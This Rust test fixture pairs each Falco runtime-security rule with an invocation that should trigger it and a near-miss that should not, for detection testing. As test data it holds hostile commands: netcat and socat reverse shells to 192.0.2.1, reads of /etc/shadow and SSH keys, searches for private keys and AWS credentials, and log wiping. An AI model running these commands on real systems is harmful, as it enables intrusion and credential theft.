//! What fires each of upstream's rules, and what is one step away and must not.

use super::table::Place::{Host, Plain, Privileged};

/// Where a program is run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    /// Outside containers. Nothing is opened or written there: only names and arguments of programs count.
    Host,
    /// In a container with the default capabilities, of the namespace `payments`.
    Plain,
    /// In a privileged container.
    Privileged,
}

/// One thing that is done.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Step {
    /// A program and its arguments, run as the child of the test's own. A name without slash is the payload's program under that
    /// name.
    Run(Place, &'static [&'static str]),
    /// The same, beside others: it takes long.
    Slow(Place, &'static [&'static str]),
    /// A further process of the plain container, started by the runtime as `kubectl exec` does.
    Exec(&'static [&'static str]),
    /// The same with a terminal.
    ExecWithTerminal(&'static [&'static str]),
    /// The start of the plain container.
    PlainStarts,
    /// The start of the privileged container.
    PrivilegedStarts,
    /// The start of a container whose image upstream trusts with everything.
    TrustedStarts,
}

use Step::{Exec, ExecWithTerminal, PlainStarts, PrivilegedStarts, Run, Slow, TrustedStarts};

/// What fires the rule, and what is one step away and does not.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Live(pub(crate) Step, pub(crate) Step);

// Flags of open(2).
const READ: &str = "0";
const WRITE: &str = "1";
/// `O_WRONLY|O_CREAT`
const CREATE: &str = "65";
/// `O_WRONLY|O_CREAT|O_TRUNC`
const TRUNCATE: &str = "577";
/// `O_WRONLY|O_CREAT|O_APPEND`
const APPEND: &str = "1089";

/// `AT_FDCWD`
const HERE: &str = "-100";

/// Overrides that two rules need to be of use: they are templates, and never fire as they come. As their authors say, they
/// have to be told what is allowed.
pub(crate) const LOCAL: &str = r#"
- list: namespace_scope_network_only_subnet
  items: [payments]
  override: {items: replace}
- macro: allowed_containers
  condition: (container.image.repository startswith "local.test/")
  override: {condition: replace}
"#;

/// Every rule that upstream's files enable, file by file.
pub(crate) const TRIALS: &[(&str, Live)] = &[
    // falco_rules.yaml
    (
        "Directory traversal monitored file read",
        Live(
            Run(Plain, &["reader", "openat", "/usr/bin/../../etc/passwd", READ]),
            Run(Plain, &["reader", "openat", "/usr/../etc/passwd", READ]),
        ),
    ),
    (
        "Read sensitive file trusted after startup",
        Live(
            Slow(Plain, &["nginx", "after", "5.3", "openat", "/etc/shadow", READ]),
            Run(Plain, &["nginx", "openat", "/etc/shadow", READ]),
        ),
    ),
    (
        "Read sensitive file untrusted",
        Live(
            Run(Plain, &["reader", "openat", "/etc/shadow", READ]),
            Run(Plain, &["passwd", "openat", "/etc/shadow", READ]),
        ),
    ),
    (
        "Run shell untrusted",
        Live(
            Run(Plain, &["nginx", "times", "1", "sh", "-c", "id"]),
            Run(Plain, &["nginx", "times", "1", "crond", "times", "1", "sh", "-c", "id"]),
        ),
    ),
    (
        "System user interactive",
        Live(
            Run(Plain, &["sshd", "times", "1", "payload", "user", "65534", "vi"]),
            Run(Plain, &["sshd", "times", "1", "payload", "user", "1000", "vi"]),
        ),
    ),
    (
        "Terminal shell in container",
        Live(ExecWithTerminal(&["/bin/sh", "-c", "true"]), Exec(&["/bin/sh", "-c", "true"])),
    ),
    (
        "Contact K8S API Server From Container",
        Live(
            Run(Plain, &["client", "connect", "10.96.0.1:443", "begin"]),
            Run(Plain, &["client", "connect", "10.96.0.2:443", "begin"]),
        ),
    ),
    (
        "Netcat Remote Code Execution in Container",
        Live(Run(Plain, &["nc", "-e", "/bin/sh", "192.0.2.1", "1"]), Run(Plain, &["nc", "192.0.2.1", "1"])),
    ),
    (
        "Search Private Keys or Passwords",
        Live(
            Run(Plain, &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"]),
            Run(Plain, &["grep", "-r", "BEGIN RSA PUBLIC KEY", "/"]),
        ),
    ),
    (
        "Clear Log Activities",
        Live(
            Run(Plain, &["vi", "openat", "/var/log/syslog", TRUNCATE]),
            Run(Plain, &["vi", "openat", "/var/log/syslog", APPEND]),
        ),
    ),
    ("Remove Bulk Data from Disk", Live(Run(Plain, &["shred", "/tmp/x"]), Run(Plain, &["stat", "/tmp/x"]))),
    (
        "Create Symlink Over Sensitive Files",
        Live(
            Run(Plain, &["ln", "attempt", "symlinkat", "@/etc/shadow", HERE, "@/tmp/symbolic"]),
            Run(Plain, &["ln", "attempt", "symlinkat", "@/etc/hostname", HERE, "@/tmp/symbolic2"]),
        ),
    ),
    (
        "Create Hardlink Over Sensitive Files",
        Live(
            Run(Plain, &["ln", "attempt", "linkat", HERE, "@/etc/shadow", HERE, "@/tmp/hard", "0"]),
            Run(Plain, &["ln", "attempt", "linkat", HERE, "@/etc/hostname", HERE, "@/tmp/hard2", "0"]),
        ),
    ),
    (
        "Packet socket created in container",
        Live(
            Run(Plain, &["reader", "attempt", "socket", "17", "3", "0"]),
            Run(Plain, &["reader", "attempt", "socket", "2", "2", "0"]),
        ),
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        Live(
            Run(Plain, &["reader", "redirect", "192.0.2.1:80", "0"]),
            Run(Plain, &["reader", "redirect", "192.0.2.1:80", "9"]),
        ),
    ),
    (
        "Linux Kernel Module Injection Detected",
        Live(
            Run(Privileged, &["insmod", "attempt", "finit_module", "-1", "@", "0"]),
            Run(Plain, &["insmod", "attempt", "finit_module", "-1", "@", "0"]),
        ),
    ),
    (
        "Debugfs Launched in Privileged Container",
        Live(Run(Privileged, &["debugfs", "/dev/sda1"]), Run(Plain, &["debugfs", "/dev/sda1"])),
    ),
    (
        "Detect release_agent File Container Escapes",
        Live(
            Run(Privileged, &["vi", "openat", "/tmp/release_agent", CREATE]),
            Run(Plain, &["vi", "openat", "/tmp/release_agent", CREATE]),
        ),
    ),
    (
        "PTRACE attached to process",
        Live(
            Run(Plain, &["reader", "attempt", "ptrace", "16", "4194303"]),
            Run(Plain, &["reader", "attempt", "ptrace", "7", "4194303"]),
        ),
    ),
    (
        "PTRACE anti-debug attempt",
        Live(
            Run(Plain, &["reader", "attempt", "ptrace", "0"]),
            Run(Plain, &["reader", "attempt", "ptrace", "7", "4194303"]),
        ),
    ),
    (
        "Find AWS Credentials",
        Live(
            Run(Plain, &["find", "/", "-path", "*/.aws/credentials"]),
            Run(Plain, &["find", "/", "-path", "*/.aws/config"]),
        ),
    ),
    (
        "Execution from /dev/shm",
        Live(Run(Plain, &["sh", "/dev/shm/dropped.sh"]), Run(Plain, &["sh", "/tmp/dropped.sh"])),
    ),
    (
        "Drop and execute new binary in container",
        Live(
            Run(Plain, &["payload", "stamped", "1", "0", "/bin/payload", "/tmp/dropped"]),
            Run(Plain, &["payload", "times", "1", "vi"]),
        ),
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        Live(
            Run(Plain, &["ssh", "connect", "192.0.2.1:443", "begin"]),
            Run(Plain, &["ssh", "connect", "192.0.2.1:22", "begin"]),
        ),
    ),
    (
        "Fileless execution via memfd_create",
        Live(Run(Plain, &["payload", "memfd", "/bin/payload"]), Run(Plain, &["payload", "execveat", "/bin/payload"])),
    ),
    // falco-incubating_rules.yaml
    (
        "Modify Shell Configuration File",
        Live(
            Run(Plain, &["vi", "openat", "/root/.bashrc", APPEND]),
            Run(Plain, &["bash", "openat", "/root/.bashrc", APPEND]),
        ),
    ),
    (
        "Schedule Cron Jobs",
        Live(
            Run(Plain, &["vi", "openat", "/etc/cron.d/job", CREATE]),
            Run(Plain, &["vi", "openat", "/etc/cron.d/known", READ]),
        ),
    ),
    (
        "Read ssh information",
        Live(
            Run(Plain, &["reader", "openat", "/root/.ssh/id_ed25519", READ]),
            Run(Plain, &["ssh", "openat", "/root/.ssh/id_ed25519", READ]),
        ),
    ),
    (
        "DB program spawned process",
        Live(Run(Plain, &["mysqld", "times", "1", "ls"]), Run(Plain, &["mysqld", "times", "1", "mysqld"])),
    ),
    (
        "Change thread namespace",
        Live(
            Run(Plain, &["reader", "attempt", "setns", "-1", "0"]),
            Run(Plain, &["multus", "attempt", "setns", "-1", "0"]),
        ),
    ),
    (
        "Change namespace privileges via unshare",
        Live(
            Run(Plain, &["reader", "attempt", "unshare", "0"]),
            Run(Privileged, &["reader", "attempt", "unshare", "0"]),
        ),
    ),
    ("Launch Privileged Container", Live(PrivilegedStarts, PlainStarts)),
    ("Launch Excessively Capable Container", Live(PrivilegedStarts, PlainStarts)),
    (
        "System procs network activity",
        Live(
            Run(Plain, &["cat", "connect", "192.0.2.1:80", "begin"]),
            Run(Plain, &["reader", "connect", "192.0.2.1:80", "begin"]),
        ),
    ),
    (
        "Program run with disallowed http proxy env",
        Live(
            Run(Plain, &["payload", "with", "http_proxy=http://192.0.2.1", "curl", "http://x"]),
            Run(Plain, &["payload", "with", "https_proxy=http://192.0.2.1", "curl", "http://x"]),
        ),
    ),
    (
        "Unexpected UDP Traffic",
        Live(
            Run(Plain, &["reader", "connect", "192.0.2.1:5555", "udp"]),
            Run(Plain, &["reader", "connect", "192.0.2.1:53", "udp"]),
        ),
    ),
    (
        "Non sudo setuid",
        Live(
            Run(Plain, &["payload", "user", "1000", "reader", "attempt", "setuid", "1000"]),
            Run(Plain, &["payload", "user", "0", "reader", "attempt", "setuid", "0"]),
        ),
    ),
    ("User mgmt binaries", Live(Run(Host, &["useradd", "-m", "x"]), Run(Plain, &["useradd", "-m", "x"]))),
    (
        "Create files below dev",
        Live(
            Run(Plain, &["vi", "openat", "/dev/hidden", CREATE]),
            Run(Plain, &["vi", "openat", "/dev/shm/hidden", CREATE]),
        ),
    ),
    (
        "Contact EC2 Instance Metadata Service From Container",
        Live(
            Run(Plain, &["reader", "connect", "169.254.169.254:80", "begin"]),
            Run(Plain, &["reader", "connect", "169.254.169.253:80", "begin"]),
        ),
    ),
    (
        "Contact cloud metadata service from container",
        Live(
            Run(Plain, &["reader", "connect", "169.254.169.254:80", "udp"]),
            Run(Plain, &["reader", "connect", "169.254.169.253:80", "udp"]),
        ),
    ),
    (
        "Launch Package Management Process in Container",
        Live(Run(Plain, &["apk", "add", "x"]), Run(Host, &["apk", "add", "x"])),
    ),
    (
        "Launch Suspicious Network Tool in Container",
        Live(Run(Plain, &["nmap", "192.0.2.1"]), Run(Host, &["nmap", "192.0.2.1"])),
    ),
    (
        "Launch Suspicious Network Tool on Host",
        Live(Run(Host, &["nmap", "192.0.2.1"]), Run(Plain, &["nmap", "192.0.2.1"])),
    ),
    (
        "Delete or rename shell history",
        Live(
            Run(Plain, &["vi", "openat", "/root/.bash_history", TRUNCATE]),
            Run(Plain, &["vi", "openat", "/root/.bash_history", APPEND]),
        ),
    ),
    (
        "Set Setuid or Setgid bit",
        Live(
            Run(Plain, &["reader", "attempt", "fchmodat", HERE, "@/srv/secret", "2541"]),
            Run(Plain, &["reader", "attempt", "fchmodat", HERE, "@/srv/secret", "493"]),
        ),
    ),
    (
        "Launch Remote File Copy Tools in Container",
        Live(Run(Plain, &["scp", "x", "y:"]), Run(Host, &["scp", "x", "y:"])),
    ),
    (
        "Network Connection outside Local Subnet",
        Live(
            Run(Plain, &["reader", "connect", "192.0.2.1:80", "begin"]),
            Run(Plain, &["reader", "connect", "10.96.0.2:80", "begin"]),
        ),
    ),
    (
        "Mount Launched in Privileged Container",
        Live(Run(Privileged, &["mount", "/dev/sda1", "/mnt"]), Run(Privileged, &["mount", "-l"])),
    ),
    (
        "Launch Ingress Remote File Copy Tools in Container",
        Live(Run(Plain, &["curl", "-s", "-o", "x", "http://y"]), Run(Plain, &["curl", "-s", "http://y"])),
    ),
    (
        "Read environment variable from /proc files",
        Live(
            Run(Plain, &["reader", "openat", "/proc/1/environ", READ]),
            Run(Plain, &["reader", "openat", "/proc/1/cmdline", READ]),
        ),
    ),
    (
        "Exfiltrating Artifacts via Kubernetes Control Plane",
        Live(Exec(&["/bin/tar", "openat", "/srv/secret", READ]), Exec(&["/bin/tar", "openat", "/etc/hostname", READ])),
    ),
    (
        "Adding ssh keys to authorized_keys",
        Live(
            Run(Plain, &["vi", "openat", "/home/alice/.ssh/authorized_keys", CREATE]),
            Run(Plain, &["vi", "openat", "/home/alice/.ssh/known_hosts", CREATE]),
        ),
    ),
    (
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        Live(
            Run(Plain, &["payload", "with", "GLIBC_TUNABLES=glibc.malloc.check=1", "vi"]),
            Run(Plain, &["payload", "with", "GLIBC_TUNING=glibc.malloc.check=1", "vi"]),
        ),
    ),
    (
        "Backdoored library loaded into SSHD (CVE-2024-3094)",
        Live(
            Run(Plain, &["sshd", "openat", "/usr/lib/liblzma.so.5.6.1", READ]),
            Run(Plain, &["sshd", "openat", "/usr/lib/liblzma.so.5.6.2", READ]),
        ),
    ),
    (
        "BPF Program Not Profiled",
        Live(
            Run(Plain, &["reader", "attempt", "bpf", "5", "0", "0"]),
            Run(Plain, &["reader", "attempt", "bpf", "0", "0", "0"]),
        ),
    ),
    // falco-sandbox_rules.yaml
    (
        "Update Package Repository",
        Live(
            Run(Plain, &["vi", "openat", "/etc/apt/sources.list.d/more.list", CREATE]),
            Run(Plain, &["apt", "openat", "/etc/apt/sources.list.d/more.list", CREATE]),
        ),
    ),
    (
        "Write below binary dir",
        Live(
            Run(Plain, &["vi", "openat", "/usr/bin/new", CREATE]),
            Run(Plain, &["vi", "openat", "/usr/bin/known", READ]),
        ),
    ),
    (
        "Write below monitored dir",
        Live(
            Run(Plain, &["vi", "openat", "/usr/lib/new.so", CREATE]),
            Run(Plain, &["vi", "openat", "/usr/share/new.so", CREATE]),
        ),
    ),
    (
        "Write below etc",
        Live(
            Run(Plain, &["vi", "openat", "/etc/new", CREATE]),
            Run(Plain, &["ldconfig", "openat", "/etc/new", CREATE]),
        ),
    ),
    (
        "Write below root",
        Live(
            Run(Plain, &["vi", "openat", "/root/new", CREATE]),
            Run(Plain, &["vi", "openat", "/root/.cache/new", CREATE]),
        ),
    ),
    (
        "Write below rpm database",
        Live(
            Run(Plain, &["vi", "openat", "/var/lib/rpm/Packages", WRITE]),
            Run(Plain, &["rpm", "openat", "/var/lib/rpm/Packages", WRITE]),
        ),
    ),
    (
        "Modify binary dirs",
        Live(
            Run(Plain, &["reader", "attempt", "unlinkat", HERE, "@/usr/bin/none", "0"]),
            Run(Plain, &["reader", "attempt", "unlinkat", HERE, "@/usr/share/none", "0"]),
        ),
    ),
    (
        "Mkdir binary dirs",
        Live(
            Run(Plain, &["reader", "attempt", "mkdirat", HERE, "@/usr/bin/directory", "493"]),
            Run(Plain, &["reader", "attempt", "mkdirat", HERE, "@/usr/share/directory", "493"]),
        ),
    ),
    ("Launch Sensitive Mount Container", Live(PlainStarts, TrustedStarts)),
    ("Launch Disallowed Container", Live(TrustedStarts, PlainStarts)),
    (
        "Detect crypto miners using the Stratum protocol",
        Live(
            Run(Plain, &["worker", "-o", "stratum+tcp://192.0.2.1:3333"]),
            Run(Plain, &["worker", "-o", "tcp://192.0.2.1:3333"]),
        ),
    ),
    (
        "Kubernetes Client Tool Launched in Container",
        Live(Run(Plain, &["kubectl", "get", "pods"]), Run(Host, &["kubectl", "get", "pods"])),
    ),
    (
        "Sudo Potential Privilege Escalation",
        Live(Run(Plain, &["sudoedit", "-s", "x\\"]), Run(Plain, &["sudoedit", "-s", "x"])),
    ),
    (
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        Live(
            Run(Plain, &["payload", "user", "1000", "reader", "attempt", "userfaultfd", "0"]),
            Run(Plain, &["payload", "user", "0", "reader", "attempt", "userfaultfd", "0"]),
        ),
    ),
    (
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        Live(Run(Plain, &["pkexec"]), Run(Plain, &["pkexec", "ls"])),
    ),
    ("Decoding Payload in Container", Live(Run(Plain, &["base64", "--decode", "x"]), Run(Plain, &["base64", "x"]))),
    (
        "Basic Interactive Reconnaissance",
        Live(
            Run(Plain, &["payload", "terminal", "whoami"]),
            Run(Plain, &["payload", "terminal", "payload", "times", "1", "whoami"]),
        ),
    ),
    (
        "Netcat/Socat Remote Code Execution on Host",
        Live(Run(Host, &["socat", "TCP:192.0.2.1:1", "EXEC:sh"]), Run(Host, &["socat", "TCP:192.0.2.1:1", "STDIO"])),
    ),
    (
        "Network Tool Executed During NPM Package Install",
        Live(Run(Plain, &["npm", "times", "1", "nc", "x"]), Run(Plain, &["make", "times", "1", "nc", "x"])),
    ),
    ("Known Cryptominer Process Executed", Live(Run(Plain, &["xmrig"]), Run(Plain, &["xmrig-proxy"]))),
    (
        "Web Server Spawned Shell",
        Live(
            Run(Plain, &["httpd", "times", "1", "sh", "-c", "id"]),
            Run(Plain, &["httpd", "times", "1", "sh", "-c", "healthcheck"]),
        ),
    ),
    (
        "Web Server Spawned Suspicious Child Process",
        Live(
            Run(Plain, &["nginx", "times", "1", "curl", "http://x/"]),
            Run(Plain, &["nginx", "times", "1", "curl", "http://x/status"]),
        ),
    ),
    (
        "Reverse Shell from Web Server",
        Live(Run(Plain, &["nginx", "times", "1", "bash", "-i"]), Run(Plain, &["make", "times", "1", "bash", "-i"])),
    ),
    (
        "Privileged Container Device Access",
        Live(
            Run(Privileged, &["reader", "openat", "/dev/sdz9", CREATE]),
            Run(Privileged, &["reader", "openat", "/dev/shm/sdz9", CREATE]),
        ),
    ),
    (
        "Container Access to Host Sensitive Paths",
        Live(
            Run(Plain, &["reader", "openat", "/host/etc/passwd", READ]),
            Run(Plain, &["reader", "openat", "/hosts/etc/passwd", READ]),
        ),
    ),
];
